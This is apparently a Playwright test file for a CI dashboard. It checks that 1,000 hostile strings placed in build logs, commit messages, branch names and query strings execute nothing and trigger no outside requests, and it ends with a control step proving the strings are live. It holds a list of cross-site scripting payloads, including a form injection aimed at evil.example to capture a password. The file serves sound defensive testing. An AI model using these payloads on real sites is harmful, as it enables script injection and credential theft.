// The page in a real browser: what repos print does nothing, whatever stands in logs, commits, names and queries.
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { needsChromium, startBrowser } from "../helpers/browser.ts";
import { type HookServer, pushPayload, sha } from "../helpers/hooks.ts";
import { startPage, visit as visitAs } from "../helpers/page.ts";
import { prepare } from "../helpers/prepare.ts";
import { testUnless } from "../helpers/skip.ts";
import { waitFor } from "../helpers/wait.ts";

let browser: Browser;
prepare(test, async () => {
  if (!needsChromium) browser = await startBrowser();
});
test.after(async () => await browser?.close());

const visit = (...where: [server: HookServer, path?: string, options?: object]) => visitAs(browser, ...where);

/** Draws every line of the log, some at a time as a reader does who scrolls; gives their texts, and elements of no row's own. */
const drawAll = `(async () => {
  const rows = [], foreign = [];
  const frame = () => new Promise(requestAnimationFrame);
  for (let line = 1; line <= 1000; line += 25) {
    location.hash = "#L" + line;
    const texts = () => [...document.querySelectorAll(".window .t")].map(({ textContent }) => textContent);
    while (!document.querySelector(".n[data-n='" + Math.min(1000, line + 17) + "']") || texts().includes("…")) await frame();
    for (const row of document.querySelectorAll(".window .row"))
      rows[row.querySelector(".n").dataset.n - 1] = row.querySelector(".t").textContent;
    for (const each of document.querySelectorAll(".window :not(div, span, a, button), .window a:not([href^='#L'])"))
      foreign.push(each.outerHTML);
  }
  return { rows, foreign };
})()`;

const unless = testUnless(test, needsChromium);

const attacks = [
  "<script>hit()</script>",
  "<img src=x onerror=hit()>",
  '"><svg onload=hit()>',
  "'-hit()-'",
  "</title><script>hit()</script>",
  "</textarea></pre><iframe srcdoc='<script>parent.hit()</script>'>",
  "javascript:hit()",
  "{{hit()}}${hit()}",
  "\u001b]8;;javascript:hit()\u0007click\u001b]8;;\u0007",
  "\u001b[31m<b onmouseover=hit()>\u001b[0m",
  "\u202e<style>*{display:none}</style>",
  "<base href=//evil.example><form action=//evil.example><input name=secret type=password>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "]]><!--<a href=javascript:hit()>x</a>",
];
const hostile = Array.from({ length: 1000 }, (_, n) => {
  const attack = attacks[n % attacks.length] ?? "";
  const around = ["", "x", '"', "'", ">", "\\", "`", "&quot;", "%22", "\u0000"];
  return `${around[n % 10]}${attack}${n}${around[(n * 7 + 3) % 10]}`;
});

unless(
  "1,000 hostile strings in logs, commits, names, refs and queries do nothing; the control shows that they could",
  async () => {
    const server = await startPage({
      repos: { "me/site": "refs: ['*']" },
      job: 'cat "$PWD/../strings"',
    });
    await writeFile(join(server.dir, "strings"), `${hostile.join("\n")}\n`);
    for (const text of attacks.slice(0, 8))
      await server.send({
        payload: {
          ...pushPayload("me/site", sha(1), `refs/heads/${text.replace(/[^\w<>"'=()/.-]|[/.]$/g, "")}`),
          head_commit: { message: text, url: text, author: { name: text } },
          pusher: { name: text },
        },
      });
    const runs = await server.idle();
    // with the policy off: the pages must be safe without it
    const page = await visit(server, "/", { bypassCSP: true });
    const asked: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(`http://localhost:${server.port}/`)) asked.push(request.url());
    });
    const calls: string[] = [];
    await page.exposeFunction("hit", () => void calls.push(page.url()));
    const started = runs.find(({ started: time }) => time !== undefined);
    const query = encodeURIComponent(attacks.join(""));
    const paths = [
      "/",
      `/?q=${query}`,
      `/repos/me/site?branch=${query}&result=${query}`,
      "/repos/me/site",
      `/runs/${started?.id}/cancel`,
      `/sign-in?to=${query}`,
      `/runs/${started?.id}`,
    ];
    for (const path of paths) {
      await page.goto(`http://localhost:${server.port}${path}`);
      const foreign = await page
        .locator(
          "iframe, base, [onerror], [onload], [onmouseover], a[href^='javascript' i], style, meta[http-equiv], script:not([src^='/page/']), img",
        )
        .count();
      assert.is(foreign, 0, path);
    }
    await page.waitForSelector(".window .row");
    const { rows, foreign } = await page.evaluate<{ rows: string[]; foreign: string[] }>(drawAll);
    assert.equal(
      rows.slice(0, 1000).flatMap((row, n) => (row.includes(String(n)) ? [] : [`${n}: ${row}`])),
      [],
      "every line was drawn",
    );
    assert.equal(foreign, [], "elements in the log that a line brought");
    assert.equal([calls, asked, page.faults], [[], [], []]);
    // those that lead to another page would end this one before the others act
    const control = attacks.filter((text) => !/<(?:base|meta)/.test(text));
    await page.evaluate(`document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(control.join(""))})`);
    await waitFor(() => calls.length > 0, { what: () => "the control to do harm" });
    await page.context().close();
    await server.stop();
  },
);

test.run();
